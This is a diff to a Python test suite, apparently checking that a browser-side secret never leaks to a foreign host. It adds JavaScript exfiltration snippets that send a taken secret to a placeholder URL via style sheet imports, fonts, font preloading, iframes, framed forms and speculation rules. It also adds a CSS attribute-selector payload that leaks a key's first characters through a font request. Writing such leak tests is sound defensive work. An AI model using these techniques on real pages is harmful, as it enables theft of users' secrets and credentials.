@@ -335,6 +335,19 @@ WAYS = {
     "a socket of a shared worker": "const v = {taken}; new SharedWorker(URL.createObjectURL(new Blob(["
     "'new WebSocket(\\'{ws}?' + v + '\\')'])))",
     "a redirect of the site's own": "fetch('/away?' + {taken}, {{mode: 'no-cors'}})",
+    "a style sheet of a style sheet": "const s = document.createElement('style'); s.textContent = '@import \"{url}?' + "
+    "{taken} + '\"'; document.head.append(s)",
+    "a font": "new FontFace('x', 'url({url}?' + {taken} + ')').load().catch(() => 0)",
+    "a font's preloading": "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'font'; "
+    "l.crossOrigin = ''; l.href = '{url}?' + {taken}; document.head.append(l)",
+    "a document in the page": "const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv=refresh "
+    "content=\"0;url={url}?' + {taken} + '\">'; document.body.append(f)",
+    "a form in a frame": "const f = document.createElement('iframe'); f.name = 'inner'; document.body.append(f); "
+    "const g = document.createElement('form'); g.method = 'post'; g.target = 'inner'; g.action = '{url}'; "
+    "g.innerHTML = '<input name=x>'; g.x.value = {taken}; document.body.append(g); g.submit()",
+    "rules for what comes next": "const s = document.createElement('script'); s.type = 'speculationrules'; "
+    "const urls = ['{url}?' + {taken}], rule = [{{source: 'list', urls, eagerness: 'immediate'}}]; "
+    "s.textContent = JSON.stringify({{prefetch: rule, prerender: rule}}); document.head.append(s)",
     "a ping": "const a = document.createElement('a'); a.href = '#'; a.ping = '{url}?' + {taken}; "
     "document.body.append(a); a.click()",
 }
@@ -474,6 +487,25 @@ def test_a_host_that_may_draw_later_pages_gets_nothing_of_the_key(sites: tuple[S
     )
     assert in_browser(own).link.status == "linked"
     assert {request.path for request in foreign.requests} == {"/menu.js"}
+
+
+@pytest.mark.parametrize("escaped", [False, True])
+def test_a_style_sheet_of_a_page_that_repeats_the_key_tells_nothing_of_it(
+    escaped: bool, sites: tuple[Site, Site], in_browser: Run
+) -> None:
+    """As pages do that show a form again as it was filled in; a font for each beginning would tell the key."""
+    own, foreign = sites
+    good_site(own)
+    shown = "".join(f"&#{ord(sign)};" for sign in SECRET) if escaped else SECRET
+    font = f"@font-face {{ font-family: told; src: url('{foreign.url}/begins-with-{SECRET[:3]}') }}"
+    style = f"{font} input[value^='{SECRET[:3]}'] {{ font-family: told }}"
+    foreign.answers["/look.css"] = (200, {"Content-Type": "text/css"}, style)
+    sheet = f"<link rel=stylesheet href={foreign.url}/look.css>"
+    filled = LINK_FORM.replace("name=s", f"name=s value='{shown}'") + "<p role=status>Success</p>"
+    own.answers["/home"] = sheet + HOME
+    own.answers["/link"] = lambda request: sheet + (filled if request.method == "POST" else LINK_FORM)
+    assert in_browser(own).link.status == "linked"
+    assert {request.path for request in foreign.requests} == {"/look.css"}
 
 
 def test_a_secret_is_typed_into_documents_of_trusted_hosts_only(
